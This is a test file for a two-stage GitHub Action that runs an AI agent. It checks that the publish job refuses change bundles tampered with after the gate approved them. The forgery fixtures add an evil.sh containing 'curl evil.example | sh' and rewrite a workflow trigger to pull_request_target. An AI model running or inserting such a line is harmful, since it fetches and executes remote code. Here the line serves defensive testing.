/**
 * Two-job mode end to end, `node dist/index.cjs` as a runner runs it against the strict GitHub fake:
 * the propose job runs the agent and the gate and writes nothing anywhere but its bundle; the
 * publish job, in a fresh checkout of the same origin, runs neither and turns the bundle into a
 * branch and a draft PR; a tampered bundle is refused with a clear error and nothing is pushed.
 * The propose job emits the bundle's digest (output bundle-digest) and the publish job, given it
 * as an input the way `needs.<job>.outputs` hands it over, refuses a bundle rewritten after the
 * gate even when its own checksum was recomputed, in both checkout credential layouts; the
 * positive control shows the same forgery accepted with the digest check switched off.
 */
import { execFileSync } from 'node:child_process'
import { promises as fs } from 'node:fs'
import path from 'node:path'
import { createHash } from 'node:crypto'
import { startScenario, type Scenario } from '../harness/scenario.js'
import { issueLabeledEvent, workflowRunFailedEvent } from '../harness/webhook-events.js'
import { runAction, type ActionRun } from '../harness/run-action.js'
import type { CheckoutCredentials } from '../harness/repo-fixture.js'
import { readLedger } from '../../src/github/pr-ledger.js'

/** The test-only switch turning one protection off (src/runtime/test-switches.ts). */
const SWITCH = 'GATED_AGENT_TEST_ONLY_PROTECTIONS_OFF'

const ISSUE = 12
const BRANCH = `agent/issue-${ISSUE}`

let scenario: Scenario
let tools: string
let markers: string
let proposeRun: ActionRun
let bundleDir: string
let baseSha: string
let checkouts = 0

/** How often the agent and the gate ran so far (each appends a line to its marker file). */
async function runs(kind: 'agent' | 'gate'): Promise<number> {
  const text = await fs.readFile(path.join(markers, kind), 'utf8').catch(() => '')
  return text.split('\n').filter(Boolean).length
}

const event = () =>
  issueLabeledEvent({
    ...scenario.target,
    issueNumber: ISSUE,
    label: 'agent',
    sender: 'alice',
    title: 'Add a farewell',
    body: 'Please add farewell().'
  })

/** The inputs both jobs would share in a workflow: the same agent and gate are set in each. */
const sharedInputs = () => ({ 'agent-command': `sh ${path.join(tools, 'agent.sh')}`, gate: `sh ${path.join(tools, 'gate.sh')}` })

function git(cwd: string, ...args: string[]): string {
  return execFileSync('git', args, {
    cwd,
    encoding: 'utf8',
    stdio: ['ignore', 'pipe', 'pipe'],
    env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1', HOME: scenario.fixture.homeDir }
  })
}

/** A fresh checkout of origin's default branch, the way actions/checkout makes one in a new job. */
async function freshCheckout(
  s: Scenario = scenario,
  layout: CheckoutCredentials = 'extraheader'
): Promise<{ workspaceDir: string; runnerTemp: string }> {
  const root = path.join(s.fixture.root, `publish-job-${++checkouts}`)
  const workspaceDir = path.join(root, 'workspace')
  const runnerTemp = path.join(root, 'runner-temp')
  await fs.mkdir(workspaceDir, { recursive: true })
  await fs.mkdir(runnerTemp, { recursive: true })
  git(workspaceDir, 'init', '--quiet', '--initial-branch=main')
  git(workspaceDir, 'remote', 'add', 'origin', s.fixture.originDir)
  git(workspaceDir, 'fetch', '--quiet', '--no-tags', '--depth=1', 'origin', '+refs/heads/main:refs/remotes/origin/main')
  git(workspaceDir, 'checkout', '--quiet', '--force', '-B', 'main', 'refs/remotes/origin/main')
  const header = `AUTHORIZATION: basic ${Buffer.from(`x-access-token:${s.fake.token}`).toString('base64')}`
  if (layout === 'includeIf') {
    // checkout v6+: the header in RUNNER_TEMP, linked from .git/config.
    const file = path.join(runnerTemp, `git-credentials-${checkouts}0000000-0000-0000-0000-000000000000.config`)
    git(workspaceDir, 'config', '--file', file, 'http.https://github.com/.extraheader', header)
    git(workspaceDir, 'config', '--local', `includeIf.gitdir:${path.join(workspaceDir, '.git')}.path`, file)
  } else {
    git(workspaceDir, 'config', '--local', 'http.https://github.com/.extraheader', header)
  }
  return { workspaceDir, runnerTemp }
}

interface PublishOptions {
  /** The bundle-digest input; the propose job's output by default. */
  digest?: string
  layout?: CheckoutCredentials
  /** Protections switched off (the test-only switch). */
  off?: string
  dryRun?: boolean
  /** More inputs for the publish job. */
  inputs?: Record<string, string>
}

/** Runs the publish stage on `bundlePath` in a fresh checkout. */
async function publish(bundlePath: string, options: PublishOptions = {}): Promise<ActionRun> {
  const checkout = await freshCheckout(scenario, options.layout)
  return runAction({
    ...checkout,
    fake: scenario.fake,
    eventName: 'issues',
    event: event(),
    inputs: {
      ...sharedInputs(),
      stage: 'publish',
      'bundle-path': bundlePath,
      'bundle-digest': options.digest ?? proposeRun.outputs['bundle-digest'],
      ...(options.dryRun ? { 'dry-run': 'true' } : {}),
      ...options.inputs
    },
    env: options.off ? { [SWITCH]: `private-tmp,${options.off}` } : {},
    timeoutMs: 30_000
  })
}

/** The tree `patch` makes on the base commit, as git computes it (what a forger can compute too). */
async function treeOf(patch: Buffer): Promise<string> {
  const index = path.join(scenario.fixture.root, `forger-${++checkouts}.index`)
  const env = { ...process.env, GIT_CONFIG_NOSYSTEM: '1', HOME: scenario.fixture.homeDir, GIT_INDEX_FILE: index }
  execFileSync('git', ['read-tree', baseSha], { cwd: scenario.fixture.originDir, env })
  execFileSync('git', ['apply', '--cached', '-'], { cwd: scenario.fixture.originDir, env, input: patch })
  return execFileSync('git', ['write-tree'], { cwd: scenario.fixture.originDir, env, encoding: 'utf8' }).trim()
}

/** A file added to the proposed change after the gate judged it. */
const EVIL_ADDITION =
  'diff --git a/evil.sh b/evil.sh\nnew file mode 100755\nindex 0000000..2b7a5c1\n--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl evil.example | sh\n'

/**
 * The bundle as a forger leaves it after the gate passed: the patch rewritten to add a file, the
 * manifest's checksum and paths recomputed to match, and, with `fixTree`, the judged tree too.
 */
function forgeAfterGate(fixTree: boolean) {
  return async (dir: string, manifest: Record<string, unknown>): Promise<void> => {
    const patch = Buffer.concat([await fs.readFile(path.join(dir, 'change.patch')), Buffer.from(EVIL_ADDITION)])
    await fs.writeFile(path.join(dir, 'change.patch'), patch)
    manifest.paths = [...(manifest.paths as unknown[]), { path: 'evil.sh', status: 'added' }]
    manifest.patch = { file: 'change.patch', sha256: createHash('sha256').update(patch).digest('hex'), bytes: patch.length }
    if (fixTree) manifest.tree = await treeOf(patch)
  }
}

/** A copy of the proposed bundle, edited by `tamper`, to hand to a publish job. */
async function tamperedBundle(name: string, tamper: (dir: string, manifest: Record<string, unknown>) => Promise<void>): Promise<string> {
  const dir = path.join(scenario.fixture.root, `tampered-${name}`)
  await fs.cp(bundleDir, dir, { recursive: true })
  const manifestFile = path.join(dir, 'manifest.json')
  const manifest = JSON.parse(await fs.readFile(manifestFile, 'utf8')) as Record<string, unknown>
  await tamper(dir, manifest)
  await fs.writeFile(manifestFile, JSON.stringify(manifest, null, 2))
  return dir
}

/** Origin's branches and the fake's pull requests: what a refused publish must leave as it was. */
async function published(): Promise<{ branches: string[]; pulls: number; creates: number }> {
  return {
    branches: await scenario.fixture.originBranches(),
    pulls: scenario.fake.pullRequests().length,
    creates: scenario.fake.requestsFor('pulls/create').length
  }
}

beforeAll(async () => {
  scenario = await startScenario({
    files: {
      'README.md': '# Demo\n',
      'src/greet.js': 'export const greet = (name) => `hello ${name}`\n',
      '.github/workflows/ci.yml': 'on: push\njobs: {}\n'
    },
    fake: {
      issues: [{ number: ISSUE, title: 'Add a farewell', body: 'Please add farewell().', labels: ['agent'], user: 'alice' }],
      permissions: { alice: 'write' },
      dispatchableWorkflows: ['ci.yml']
    }
  })
  tools = path.join(scenario.fixture.root, 'tools')
  markers = path.join(scenario.fixture.root, 'markers')
  await fs.mkdir(tools)
  await fs.mkdir(markers)
  // The agent and the gate leave a line in a marker file outside the repository each time they run.
  await fs.writeFile(
    path.join(tools, 'agent.sh'),
    `echo run >> ${path.join(markers, 'agent')}\n` +
      "printf 'export const farewell = (name) => `goodbye ${name}`\\n' > src/farewell.js\n" +
      "printf '# Demo\\n\\nNow says goodbye too.\\n' > README.md\n"
  )
  await fs.writeFile(path.join(tools, 'gate.sh'), `echo run >> ${path.join(markers, 'gate')}\ntest -f src/farewell.js\n`)
  baseSha = (await scenario.fixture.originSha('main')) as string

  proposeRun = await scenario.run({
    eventName: 'issues',
    event: event(),
    inputs: { ...sharedInputs(), stage: 'propose' },
    timeoutMs: 30_000
  })
  bundleDir = proposeRun.outputs['bundle-path']
}, 60_000)

afterAll(async () => {
  await scenario?.cleanup()
})

describe('stage: propose', () => {
  test('runs the agent and the gate, writes a bundle, and makes no write request and no push', async () => {
    expect(proposeRun.exitCode).toBe(0)
    expect(proposeRun.outputs).toMatchObject({
      result: 'proposed',
      branch: BRANCH,
      attempts: '1',
      'pr-number': '',
      'pr-url': '',
      'artifact-name': '',
      'bundle-digest': expect.stringMatching(/^sha256:[0-9a-f]{64}$/)
    })
    expect(await runs('agent')).toBe(1)
    expect(await runs('gate')).toBe(1)

    expect(scenario.fake.writeRequests()).toEqual([])
    expect(scenario.fake.issueComments(ISSUE)).toEqual([])
    expect(await scenario.fixture.originBranches()).toEqual(['main'])
    expect(await scenario.fixture.originSha('main')).toBe(baseSha)
    scenario.fake.assertNoProblems()

    expect(bundleDir).toBe(path.join(scenario.fixture.runnerTemp, 'gated-agent-bundle'))
    const manifest = JSON.parse(await fs.readFile(path.join(bundleDir, 'manifest.json'), 'utf8')) as Record<string, unknown>
    const patch = await fs.readFile(path.join(bundleDir, 'change.patch'))
    expect(manifest).toMatchObject({
      format: 'gated-agent-change-bundle',
      repository: 'octo-org/octo-repo',
      job: 'issue-to-pr',
      task: { kind: 'issue', number: ISSUE },
      base: { sha: baseSha, branch: 'main' },
      branch: BRANCH,
      title: 'Agent: Add a farewell',
      paths: [
        { path: 'README.md', status: 'modified' },
        { path: 'src/farewell.js', status: 'added' }
      ],
      patch: { file: 'change.patch', sha256: createHash('sha256').update(patch).digest('hex'), bytes: patch.length }
    })
    expect(patch.toString()).toContain('+export const farewell')
    // The tree the gate judged: the base plus the patch, exactly.
    expect(manifest.tree).toBe(await treeOf(patch))
    // The digest is over the bytes written: the files as they are now give the same one.
    const manifestBytes = await fs.readFile(path.join(bundleDir, 'manifest.json'))
    const digest = createHash('sha256').update('gated-agent-change-bundle-digest/1\0')
    for (const part of [manifestBytes, patch]) digest.update(`${part.length}\0`).update(part)
    expect(proposeRun.outputs['bundle-digest']).toBe(`sha256:${digest.digest('hex')}`)
    expect(proposeRun.stdout).toContain(`The change bundle's digest is ${proposeRun.outputs['bundle-digest']}`)
  })

  test('says in the summary that the publish job delivers, and why no artifact was uploaded here', () => {
    expect(proposeRun.outputs.reason).toContain('the change bundle awaits the publish job')
    expect(proposeRun.summary).toContain(`Wrote the change bundle to ${bundleDir}`)
    // The fake's server is not github.com: the runner offers no artifact storage for it.
    expect(proposeRun.summary).toContain('The bundle was not uploaded as an artifact')
    expect(proposeRun.summary).toContain('with actions/upload-artifact')
  })
})

describe('stage: propose refuses a bundle-path inside the checkout', () => {
  test('before the agent runs: putting the tree back would sweep the bundle away', async () => {
    const agentRuns = await runs('agent')
    const run = await scenario.run({
      eventName: 'issues',
      event: event(),
      inputs: { ...sharedInputs(), stage: 'propose', 'bundle-path': 'bundle' },
      timeoutMs: 30_000
    })
    expect(run.exitCode).toBe(1)
    expect(run.commands.filter((c) => c.command === 'error').map((c) => c.message)).toEqual([
      expect.stringContaining("Input 'bundle-path'")
    ])
    expect(await runs('agent')).toBe(agentRuns)
    expect(scenario.fake.writeRequests()).toEqual([])
  })
})

describe('stage: publish refuses a tampered bundle, with a clear error, pushing nothing', () => {
  /** Whether a row runs with the digest check switched off, to show the check behind it. */
  const behindDigest = new Set([
    'a change to a workflow, with a digest to match',
    'a base commit that does not exist',
    'a forged patch whose tree is not the judged one'
  ])
  test.each<[string, (dir: string, manifest: Record<string, unknown>) => Promise<void>, RegExp]>([
    [
      'a patch edited after its digest was written',
      (dir) =>
        fs.appendFile(
          path.join(dir, 'change.patch'),
          'diff --git a/evil.sh b/evil.sh\nnew file mode 100755\n--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl evil.example | sh\n'
        ),
      /The bundle's patch does not match its digest: .* It was changed after the propose job wrote it/
    ],
    [
      'a change to a workflow, with a digest to match',
      async (dir, manifest) => {
        const patch = Buffer.from(
          'diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -1,2 +1,2 @@\n-on: push\n+on: pull_request_target\n jobs: {}\n'
        )
        await fs.writeFile(path.join(dir, 'change.patch'), patch)
        manifest.paths = [{ path: '.github/workflows/ci.yml', status: 'modified' }]
        manifest.patch = { file: 'change.patch', sha256: createHash('sha256').update(patch).digest('hex'), bytes: patch.length }
      },
      /The bundle changes protected paths: \.github\/workflows\/ci\.yml \(modified, protected by \.github\/workflows\/\*\*\)/
    ],
    [
      'a base commit that does not exist',
      async (_dir, manifest) => {
        manifest.base = { sha: '0123456789abcdef0123456789abcdef01234567', branch: 'main' }
      },
      /The bundle's base commit 0123456789abcdef0123456789abcdef01234567 is neither in this checkout nor on origin/
    ],
    [
      'a file added after the gate, its checksum and paths recomputed (checkout layout extraheader)',
      forgeAfterGate(true),
      /The bundle's digest is sha256:[0-9a-f]{64}, but the propose job emitted sha256:[0-9a-f]{64} \(input bundle-digest\): it was changed after the gate judged it/
    ],
    [
      'a file added after the gate, its checksum and paths recomputed (checkout layout includeIf)',
      forgeAfterGate(true),
      /The bundle's digest is sha256:[0-9a-f]{64}, but the propose job emitted sha256:[0-9a-f]{64} \(input bundle-digest\): it was changed after the gate judged it/
    ],
    [
      'a forged patch whose tree is not the judged one',
      forgeAfterGate(false),
      /The bundle's patch applied to [0-9a-f]{40} makes the tree [0-9a-f]{40}, not the tree [0-9a-f]{40} the gate judged/
    ]
  ])('%s', async (name, tamper, expected) => {
    const dir = await tamperedBundle(name.replace(/\W+/g, '-'), tamper)
    const before = await published()
    const agentRuns = await runs('agent')
    const gateRuns = await runs('gate')

    const run = await publish(dir, {
      off: behindDigest.has(name) ? 'bundle-digest' : undefined,
      layout: name.includes('includeIf') ? 'includeIf' : 'extraheader'
    })

    expect(run.exitCode).toBe(1)
    expect(run.outputs.result).toBe('rejected')
    expect(run.outputs.reason).toMatch(/^Refused to publish the change bundle in .*; nothing was pushed\./)
    expect(run.outputs.reason).toMatch(expected)
    const errors = run.commands.filter((c) => c.command === 'error').map((c) => c.message)
    expect(errors).toEqual([expect.stringMatching(expected)])
    expect(await published()).toEqual(before)
    expect(await runs('agent')).toBe(agentRuns)
    expect(await runs('gate')).toBe(gateRuns)
    // The issue that asked is told, without the bundle's words.
    const comment = scenario.fake.issueComments(ISSUE).at(-1)
    expect(comment?.body).toContain('The change bundle from the propose job was refused, so nothing was pushed')
    expect(comment?.body).not.toContain('curl evil.example')
    scenario.fake.assertNoProblems()
  })
})

describe('stage: publish takes the forged bundle only with the digest check switched off (positive control)', () => {
  test.each<CheckoutCredentials>(['extraheader', 'includeIf'])('checkout layout %s: dry run, verified, nothing pushed', async (layout) => {
    const dir = await tamperedBundle(`forged-control-${layout}`, forgeAfterGate(true))
    const before = await published()
    const run = await publish(dir, { off: 'bundle-digest', layout, dryRun: true })
    expect(run.stdout).toContain(`${SWITCH} is set`)
    expect(run.exitCode).toBe(0)
    expect(run.outputs.result).toBe('proposed')
    expect(run.outputs.reason).toMatch(/^Dry run: the change bundle is verified/)
    expect(await published()).toEqual(before)
  })

  test('the digest input is required: a workflow that does not pass it is stopped before anything is read', async () => {
    const run = await publish(bundleDir, { digest: '' })
    expect(run.exitCode).toBe(1)
    expect(run.commands.filter((c) => c.command === 'error').map((c) => c.message)).toEqual([
      expect.stringContaining("Input 'bundle-digest'")
    ])
  })
})

describe('stage: publish', () => {
  test('opens a draft PR from the bundle in a fresh checkout, pushing exactly the proposed change, running no agent and no gate', async () => {
    const agentRuns = await runs('agent')
    const gateRuns = await runs('gate')

    // Every publish before this one was refused or a dry run: nothing was pushed, nothing dispatched.
    expect(scenario.fake.dispatches).toEqual([])
    const run = await publish(bundleDir, { inputs: { 'ci-workflow': 'ci.yml' } })

    expect(run.exitCode).toBe(0)
    // ci-workflow: the push made with the workflow token starts no CI, so publish dispatches it, once, on the pushed branch.
    expect(scenario.fake.dispatches).toEqual([{ workflow: 'ci.yml', ref: BRANCH }])
    expect(await runs('agent')).toBe(agentRuns)
    expect(await runs('gate')).toBe(gateRuns)
    expect(run.outputs).toMatchObject({ result: 'proposed', branch: BRANCH, attempts: '1', 'pr-number': expect.stringMatching(/^\d+$/) })

    const [pull] = scenario.fake.pullRequests()
    expect(pull).toMatchObject({ head: BRANCH, base: 'main', draft: true, title: 'Agent: Add a farewell', state: 'open', merged: false })
    expect(pull.body).toContain(`Closes #${ISSUE}`)
    expect(run.outputs['pr-url']).toContain(`/pull/${pull.number}`)

    const [commit] = await scenario.fixture.originLog(BRANCH)
    expect(commit).toMatchObject({ parents: [baseSha], subject: 'Agent: Add a farewell', authorName: 'github-actions[bot]' })
    const changed = git(scenario.fixture.originDir, 'diff', '--name-status', '--no-renames', baseSha, `refs/heads/${BRANCH}`)
    expect(changed).toBe('M\tREADME.md\nA\tsrc/farewell.js\n')
    expect(await scenario.fixture.originFile(BRANCH, 'src/farewell.js')).toBe('export const farewell = (name) => `goodbye ${name}`\n')
    expect(await scenario.fixture.originFile(BRANCH, 'README.md')).toBe('# Demo\n\nNow says goodbye too.\n')
    expect(await scenario.fixture.originSha('main')).toBe(baseSha)

    // The progress comment is the one the refusals left, edited to the outcome (found by its marker).
    const comments = scenario.fake.issueComments(ISSUE)
    expect(comments).toHaveLength(1)
    expect(comments[0].body).toContain(`<!-- gated-agent:issue-${ISSUE} -->`)
    expect(comments[0].body).toContain(`**Draft pull request:** [#${pull.number}]`)
    expect(scenario.fake.forbiddenRequests()).toEqual([])
    scenario.fake.assertNoProblems()
  })
})

describe('two-job self-heal: the failing commit is fetched by id, and the heal PR counts the agent runs', () => {
  const FAILING = 'feature/math'
  const GOOD = 'export const add = (a, b) => a + b\n'
  const heal = { scenario: undefined as unknown as Scenario, failingSha: '', markers: '' }
  const healEvent = () =>
    workflowRunFailedEvent({
      ...heal.scenario.target,
      headBranch: FAILING,
      headSha: heal.failingSha,
      runId: 555,
      actor: 'octocat',
      workflowName: 'CI'
    })
  const healInputs = () => ({
    'agent-command': `sh ${path.join(heal.markers, 'agent.sh')}`,
    gate: `sh ${path.join(heal.markers, 'gate.sh')}`
  })
  const count = async (kind: string): Promise<number> =>
    (await fs.readFile(path.join(heal.markers, kind), 'utf8').catch(() => '')).split('\n').filter(Boolean).length

  beforeAll(async () => {
    const runsSeed = [{ id: 555, headBranch: FAILING, headSha: 'placeholder', actor: 'octocat' }]
    heal.scenario = await startScenario({
      files: {
        'src/add.js': GOOD,
        'test.mjs': "import { add } from './src/add.js'\nif (add(2, 3) !== 5) { console.error('add is wrong'); process.exit(1) }\n"
      },
      branches: { [FAILING]: { 'src/add.js': GOOD.replace('a + b', 'a - b') } },
      fake: {
        permissions: { octocat: 'write' },
        runs: runsSeed,
        jobs: { 555: [{ id: 5551, name: 'test', steps: [{ name: 'Run tests', conclusion: 'failure' }] }] },
        logs: { 5551: '2024-05-01T12:00:01.0000000Z add is wrong\n' }
      }
    })
    heal.failingSha = (await heal.scenario.fixture.originSha(FAILING)) as string
    runsSeed[0].headSha = heal.failingSha
    heal.markers = path.join(heal.scenario.fixture.root, 'heal-tools')
    await fs.mkdir(heal.markers)
    await fs.writeFile(
      path.join(heal.markers, 'agent.sh'),
      `echo run >> ${path.join(heal.markers, 'agent')}\nprintf 'export const add = (a, b) => a + b\\n' > src/add.js\n`
    )
    await fs.writeFile(path.join(heal.markers, 'gate.sh'), `echo run >> ${path.join(heal.markers, 'gate')}\nnode test.mjs\n`)
  }, 30_000)

  afterAll(async () => {
    await heal.scenario?.cleanup()
  })

  test('propose reproduces and fixes with no write; publish, in a checkout of main, opens the heal PR into the failing branch', async () => {
    const s = heal.scenario
    const proposed = await s.run({
      eventName: 'workflow_run',
      event: healEvent(),
      inputs: { ...healInputs(), stage: 'propose' },
      timeoutMs: 30_000
    })
    expect(proposed.exitCode).toBe(0)
    expect(proposed.outputs).toMatchObject({ result: 'proposed', branch: `agent/heal/${FAILING}`, attempts: '1' })
    expect(s.fake.writeRequests()).toEqual([])
    expect(await s.fixture.originBranches()).toEqual([FAILING, 'main'])
    expect([await count('agent'), await count('gate')]).toEqual([1, 2])
    const manifest = JSON.parse(await fs.readFile(path.join(proposed.outputs['bundle-path'], 'manifest.json'), 'utf8')) as Record<
      string,
      unknown
    >
    expect(manifest).toMatchObject({
      job: 'self-heal',
      task: { kind: 'run', id: 555, branch: FAILING, failingSteps: [{ job: 'test', step: 'Run tests' }] },
      base: { sha: heal.failingSha, branch: FAILING }
    })

    // A shallow checkout of main lacks the failing commit: the publish job fetches it by id.
    const checkout = await freshCheckout(s)
    expect(() => git(checkout.workspaceDir, 'cat-file', '-e', `${heal.failingSha}^{commit}`)).toThrow()
    const published = await runAction({
      ...checkout,
      fake: s.fake,
      eventName: 'workflow_run',
      event: healEvent(),
      inputs: {
        ...healInputs(),
        stage: 'publish',
        'bundle-path': proposed.outputs['bundle-path'],
        'bundle-digest': proposed.outputs['bundle-digest']
      },
      timeoutMs: 30_000
    })
    expect(published.exitCode).toBe(0)
    expect([await count('agent'), await count('gate')]).toEqual([1, 2])
    const [pull] = s.fake.pullRequests()
    expect(pull).toMatchObject({ head: `agent/heal/${FAILING}`, base: FAILING, draft: true })
    expect(readLedger(pull.body)?.runs).toBe(1)
    expect(pull.body).toContain(`**Agent runs spent on \`${FAILING}\`:** 1 of 3`)
    // The CI's failing steps travel in the manifest, so the publisher's PR body lists them too.
    expect(pull.body).toContain('`test` › `Run tests`')
    const [commit] = await s.fixture.originLog(`agent/heal/${FAILING}`)
    expect(commit.parents).toEqual([heal.failingSha])
    expect(await s.fixture.originFile(`agent/heal/${FAILING}`, 'src/add.js')).toBe(GOOD)
    expect(await s.fixture.originSha(FAILING)).toBe(heal.failingSha)
    s.fake.assertNoProblems()
    expect(s.fake.forbiddenRequests()).toEqual([])
  })
})
